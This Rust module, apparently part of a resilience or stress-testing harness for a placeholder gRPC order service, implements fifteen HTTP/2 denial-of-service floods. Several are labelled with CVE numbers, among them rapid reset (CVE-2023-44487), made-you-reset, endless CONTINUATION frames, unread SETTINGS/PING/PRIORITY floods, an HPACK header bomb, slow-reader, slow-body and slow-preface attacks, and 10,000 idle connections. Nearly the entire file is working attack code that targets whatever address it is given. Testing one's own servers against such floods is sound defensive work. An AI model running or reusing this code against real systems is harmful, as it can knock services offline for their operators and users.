//! The floods.

use std::future::Future;
use std::net::SocketAddr;
use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use bytes::Bytes;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};

use super::frame::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, HEADERS, INITIAL_WINDOW_SIZE,
    PING, PREFACE, PRIORITY, RST_STREAM, WINDOW_UPDATE, indexed, literal, push, request, settings,
};

const GET: &str = "/acme.order.v1.OrderService/GetOrder";
const LIST: &str = "/acme.order.v1.OrderService/ListOrders";
/// Frames in one write.
const BATCH: u32 = 100;
/// The greatest number of a stream.
const LAST: u32 = (1 << 31) - 1;

type Run = Pin<Box<dyn Future<Output = ()> + Send>>;

/// One way to flood.
pub(super) struct Flood {
    pub(super) name: &'static str,
    /// What it does, and where it is known from.
    pub(super) what: &'static str,
    pub(super) connections: usize,
    pub(super) run: fn(Arc<Attacker>) -> Run,
}

pub(super) const FLOODS: &[Flood] = &[
    Flood {
        name: "rapid reset",
        what: "calls, each reset at once (CVE-2023-44487)",
        connections: 8,
        run: |it| Box::pin(repeat(it, rapid_reset)),
    },
    Flood {
        name: "made you reset",
        what: "calls, each with an error that makes the server reset it (CVE-2025-8671)",
        connections: 8,
        run: |it| Box::pin(repeat(it, made_you_reset)),
    },
    Flood {
        name: "continuation",
        what: "a header block that never ends (CVE-2024-24549 and its kin)",
        connections: 8,
        run: |it| Box::pin(repeat(it, |it, wire| continuation(it, wire, 16 << 10))),
    },
    Flood {
        name: "empty continuation",
        what: "the same, of frames without content",
        connections: 8,
        run: |it| Box::pin(repeat(it, |it, wire| continuation(it, wire, 0))),
    },
    Flood {
        name: "settings",
        what: "SETTINGS, whose acknowledgements are not read (CVE-2019-9515)",
        connections: 8,
        run: |it| Box::pin(repeat(it, |it, wire| unread(it, wire, change))),
    },
    Flood {
        name: "ping",
        what: "PING, whose answers are not read (CVE-2019-9512)",
        connections: 8,
        run: |it| {
            let ping = |to: &mut Vec<u8>, _| push(to, PING, 0, 0, &[7; 8]);
            Box::pin(repeat(it, move |it, wire| unread(it, wire, ping)))
        },
    },
    Flood {
        name: "empty data",
        what: "DATA without content, for ever (CVE-2019-9518)",
        connections: 8,
        run: |it| Box::pin(repeat(it, empty_data)),
    },
    Flood {
        name: "header bomb",
        what: "one byte for each 4 KiB of headers, out of the table (CVE-2016-6581)",
        connections: 8,
        run: |it| Box::pin(repeat(it, header_bomb)),
    },
    Flood {
        name: "slow reader",
        what: "calls whose answers have no room: a window of 0 (CVE-2019-9511, CVE-2019-9517)",
        connections: 64,
        run: |it| Box::pin(repeat(it, slow_reader)),
    },
    Flood {
        name: "window update",
        what: "WINDOW_UPDATE by one byte",
        connections: 8,
        run: |it| {
            let update = |to: &mut Vec<u8>, _| push(to, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
            Box::pin(repeat(it, move |it, wire| unread(it, wire, update)))
        },
    },
    Flood {
        name: "priority",
        what: "priorities of streams that are not there, over and over (CVE-2019-9513)",
        connections: 8,
        run: |it| Box::pin(repeat(it, |it, wire| unread(it, wire, priority))),
    },
    Flood {
        name: "slow body",
        what: "calls whose message never ends",
        connections: 64,
        run: |it| Box::pin(repeat(it, slow_body)),
    },
    Flood {
        name: "large body",
        what: "calls that send a message of 4 MiB, but for its last byte",
        connections: 64,
        run: |it| Box::pin(large_body(it)),
    },
    Flood {
        name: "slow preface",
        what: "connections that begin a byte at a time",
        connections: 2_000,
        run: |it| Box::pin(slow_preface(it)),
    },
    Flood {
        name: "idle",
        what: "ten thousand connections that do nothing",
        connections: 10_000,
        run: |it| Box::pin(idle(it)),
    },
];

/// What all connections of a flood share.
pub(super) struct Attacker {
    address: SocketAddr,
    pub(super) until: Instant,
    sent: AtomicU64,
    opened: AtomicU64,
}

impl Attacker {
    pub(super) fn new(address: SocketAddr, until: Instant) -> Self {
        Self {
            address,
            until,
            sent: AtomicU64::new(0),
            opened: AtomicU64::new(0),
        }
    }

    /// Frames.
    pub(super) fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Connections.
    pub(super) fn opened(&self) -> u64 {
        self.opened.load(Ordering::Relaxed)
    }

    fn count(&self, frames: u32) {
        self.sent.fetch_add(frames.into(), Ordering::Relaxed);
    }

    async fn open(&self) -> Option<TcpStream> {
        let stream = TcpStream::connect(self.address).await.ok()?;
        self.opened.fetch_add(1, Ordering::Relaxed);
        Some(stream)
    }

    fn is_over(&self) -> bool {
        Instant::now() >= self.until
    }
}

/// A connection that has begun.
struct Wire {
    read: OwnedReadHalf,
    write: OwnedWriteHalf,
}

impl Wire {
    /// Takes what the server says, until it closes.
    fn drained(self) -> OwnedWriteHalf {
        let Self { mut read, write } = self;
        tokio::spawn(async move { tokio::io::copy(&mut read, &mut tokio::io::sink()).await });
        write
    }
}

/// Floods over one connection after the other: the server may close them.
async fn repeat<F, T>(attacker: Arc<Attacker>, flood: F)
where
    F: Fn(Arc<Attacker>, Wire) -> T,
    T: Future<Output = std::io::Result<()>>,
{
    while !attacker.is_over() {
        if let Some(mut stream) = attacker.open().await {
            let mut hello = PREFACE.to_vec();
            settings(&mut hello, &[(HEADER_TABLE_SIZE, 4096)]);
            if stream.write_all(&hello).await.is_ok() {
                let (read, write) = stream.into_split();
                let _ = flood(Arc::clone(&attacker), Wire { read, write }).await;
            }
        }
        // What is refused at once comes back soon, not at once.
        tokio::time::sleep(Duration::from_millis(1)).await;
    }
}

/// The numbers of a client's streams.
fn streams() -> impl Iterator<Item = u32> {
    (1..LAST).step_by(2)
}

async fn rapid_reset(attacker: Arc<Attacker>, wire: Wire) -> std::io::Result<()> {
    let mut write = wire.drained();
    let call = request(GET);
    let mut streams = streams();
    while !attacker.is_over() {
        let mut batch = Vec::new();
        for stream in streams.by_ref().take(BATCH as usize) {
            push(&mut batch, HEADERS, END_HEADERS, stream, &call);
            push(&mut batch, RST_STREAM, 0, stream, &[0, 0, 0, 8]);
        }
        write.write_all(&batch).await?;
        attacker.count(2 * BATCH);
    }
    Ok(())
}

async fn made_you_reset(attacker: Arc<Attacker>, wire: Wire) -> std::io::Result<()> {
    let mut write = wire.drained();
    let call = request(GET);
    let mut streams = streams();
    while !attacker.is_over() {
        let mut batch = Vec::new();
        for stream in streams.by_ref().take(BATCH as usize) {
            push(&mut batch, HEADERS, END_HEADERS, stream, &call);
            // More room than there can be: an error of the stream.
            let most = LAST.to_be_bytes();
            push(&mut batch, WINDOW_UPDATE, 0, stream, &most);
        }
        write.write_all(&batch).await?;
        attacker.count(2 * BATCH);
    }
    Ok(())
}

async fn continuation(attacker: Arc<Attacker>, wire: Wire, size: usize) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut first = Vec::new();
    push(&mut first, HEADERS, 0, 1, &request(GET));
    write.write_all(&first).await?;
    let mut block = Vec::new();
    while block.len() + 16 < size {
        literal(&mut block, "x-more", "of it");
    }
    let mut more = Vec::new();
    push(&mut more, CONTINUATION, 0, 1, &block);
    while !attacker.is_over() {
        write.write_all(&more).await?;
        attacker.count(1);
    }
    Ok(())
}

/// Frames that ask for something, on a connection that is not read.
async fn unread(
    attacker: Arc<Attacker>,
    wire: Wire,
    frame: impl Fn(&mut Vec<u8>, u32),
) -> std::io::Result<()> {
    let Wire { read, mut write } = wire;
    let mut number = 0;
    while !attacker.is_over() {
        let mut batch = Vec::new();
        for _ in 0..BATCH {
            frame(&mut batch, number);
            number += 1;
        }
        write.write_all(&batch).await?;
        attacker.count(BATCH);
    }
    drop(read);
    Ok(())
}

fn change(to: &mut Vec<u8>, number: u32) {
    settings(to, &[(INITIAL_WINDOW_SIZE, number % 1_000)]);
}

fn priority(to: &mut Vec<u8>, number: u32) {
    let stream = (2 * number + 1) % LAST;
    push(to, PRIORITY, 0, stream, &[0, 0, 0, 0, 16]);
}

async fn empty_data(attacker: Arc<Attacker>, wire: Wire) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut batch = Vec::new();
    push(&mut batch, HEADERS, END_HEADERS, 1, &request(GET));
    write.write_all(&batch).await?;
    batch.clear();
    for _ in 0..BATCH {
        push(&mut batch, DATA, 0, 1, &[]);
    }
    while !attacker.is_over() {
        write.write_all(&batch).await?;
        attacker.count(BATCH);
    }
    Ok(())
}

async fn header_bomb(attacker: Arc<Attacker>, wire: Wire) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut streams = streams();
    let mut batch = Vec::new();
    let mut first = request(GET);
    // All of the table of 4096 bytes (RFC 7541, 4.1).
    indexed(&mut first, "x", &"a".repeat(4_000));
    for stream in streams.by_ref().take(1) {
        push(
            &mut batch,
            HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            &first,
        );
    }
    let mut bomb = request(GET);
    // The newest entry of the dynamic table.
    bomb.extend([0xBE; 16_000]);
    while !attacker.is_over() {
        for stream in streams.by_ref().take(10) {
            push(&mut batch, HEADERS, END_HEADERS | END_STREAM, stream, &bomb);
        }
        write.write_all(&batch).await?;
        attacker.count(10);
        batch.clear();
    }
    Ok(())
}

async fn slow_reader(attacker: Arc<Attacker>, wire: Wire) -> std::io::Result<()> {
    let Wire {
        mut read,
        mut write,
    } = wire;
    let mut batch = Vec::new();
    settings(&mut batch, &[(INITIAL_WINDOW_SIZE, 0)]);
    let call = request(LIST);
    for stream in streams().take(BATCH as usize) {
        push(&mut batch, HEADERS, END_HEADERS, stream, &call);
        // A message of no bytes.
        push(&mut batch, DATA, END_STREAM, stream, &[0; 5]);
    }
    write.write_all(&batch).await?;
    attacker.count(2 * BATCH);
    // A little at a time, so that the connection is alive.
    let mut little = [0; 16];
    while !attacker.is_over() {
        if read.read(&mut little).await? == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

async fn slow_body(attacker: Arc<Attacker>, wire: Wire) -> std::io::Result<()> {
    let mut write = wire.drained();
    let mut batch = Vec::new();
    let call = request(GET);
    // Says that a megabyte is to come.
    let begin = [0, 0, 16, 0, 0];
    for stream in streams().take(BATCH as usize) {
        push(&mut batch, HEADERS, END_HEADERS, stream, &call);
        push(&mut batch, DATA, 0, stream, &begin);
    }
    write.write_all(&batch).await?;
    attacker.count(2 * BATCH);
    while !attacker.is_over() {
        let mut byte = Vec::new();
        for stream in streams().take(BATCH as usize) {
            push(&mut byte, DATA, 0, stream, &[1]);
        }
        write.write_all(&byte).await?;
        attacker.count(BATCH);
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

/// As much as is taken of one message by default.
const LARGEST: u32 = 4 << 20;

/// Keeps to flow control, which the server grants as it takes what it is sent.
async fn large_body(attacker: Arc<Attacker>) {
    let mut message = vec![0];
    message.extend(LARGEST.to_be_bytes());
    message.resize(LARGEST as usize + 4, 1);
    let message = Bytes::from(message);
    while !attacker.is_over() {
        let Some(stream) = attacker.open().await else {
            continue;
        };
        let Ok((mut calls, connection)) = h2::client::handshake(stream).await else {
            continue;
        };
        let mut held = Vec::new();
        let calling = async {
            while let Ok(ready) = calls.clone().ready().await {
                calls = ready;
                let call = http::Request::post(format!("http://localhost{GET}"))
                    .header("content-type", "application/grpc")
                    .body(());
                let Ok(Ok((answer, mut body))) = call.map(|it| calls.send_request(it, false))
                else {
                    break;
                };
                attacker.count(1);
                if body.send_data(message.clone(), false).is_err() {
                    break;
                }
                held.push((answer, body));
                if held.len() == 16 {
                    std::future::pending::<()>().await;
                }
            }
        };
        tokio::select! {
            _ = connection => {}
            () = calling => {}
            () = tokio::time::sleep_until(attacker.until.into()) => {}
        }
    }
}

async fn slow_preface(attacker: Arc<Attacker>) {
    while !attacker.is_over() {
        let Some(mut stream) = attacker.open().await else {
            continue;
        };
        for byte in PREFACE {
            if attacker.is_over() || stream.write_all(&[*byte]).await.is_err() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
    }
}

async fn idle(attacker: Arc<Attacker>) {
    let Some(mut stream) = attacker.open().await else {
        return;
    };
    let mut hello = PREFACE.to_vec();
    settings(&mut hello, &[]);
    if stream.write_all(&hello).await.is_ok() {
        attacker.count(1);
        let _ = tokio::io::copy(&mut stream, &mut tokio::io::sink()).await;
    }
}
